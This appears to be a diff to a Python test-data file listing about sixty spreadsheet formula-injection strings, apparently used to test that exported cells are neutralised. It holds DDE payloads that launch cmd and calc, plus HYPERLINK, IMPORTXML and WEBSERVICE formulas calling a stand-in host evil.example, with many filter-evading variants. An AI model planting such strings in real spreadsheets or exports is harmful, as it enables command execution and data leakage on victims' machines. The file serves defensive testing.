@@ -1,11 +1,12 @@
 """Sixty texts that spreadsheet programs have been made to execute, or to take for something else than text."""
 
-_CORES = ["=1+1", "=HYPERLINK(\"http://evil.example\",\"点\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)"]
+_CORES = ["=1+1", '=HYPERLINK("http://evil.example","点")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)"]
 _LEADS = ["", " ", "\t", "\r", "\n", "'"]
 FORMULAS = [
     *(lead + core for core in _CORES for lead in _LEADS),
     "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "　=1+1", "''=1+1", "'\t=1+1", "\"=1+1\"", "\",=1+1", "a\n=1+1",
-    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
     "=1+1;", "{=SUM(A1:A2)}", "http://evil.example/", "mailto:a@evil.example", "internal:Sheet1!A1", "_x003D_1+1",
     "_x000D_", "-2+3+cmd|' /C calc'!D2", "%0A-3+3+cmd", "1e308", "'",
 ]  # fmt: skip
